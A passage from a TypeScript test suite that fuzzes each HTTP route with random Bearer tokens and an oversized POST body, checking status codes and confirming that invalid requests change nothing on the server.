            headers: { Authorization: `Bearer ${randomString(rng).replace(/[^\x20-\x7e]/g, "")}` },
          });
          expect(response.status, query).toBe(200);
          expect(await response.text()).toBe(plain);
        }
        expect((await w.t.fetch(path, { method: "POST", body: HUGE })).status).toBe(404);
        await expectUnchanged(w.t, before, route);
      },
    ]),
  ),
};

describe.each(ROUTES)("HTTP %s", (route) => {
  it("refuses invalid requests with a 4xx and changes nothing", async () => {
    const run = ROUTE_ENTRIES[route];
    expect(run, `${route} has no fuzz entry`).toBeDefined();
    await run(prng(seedOf(route)));
  });
});
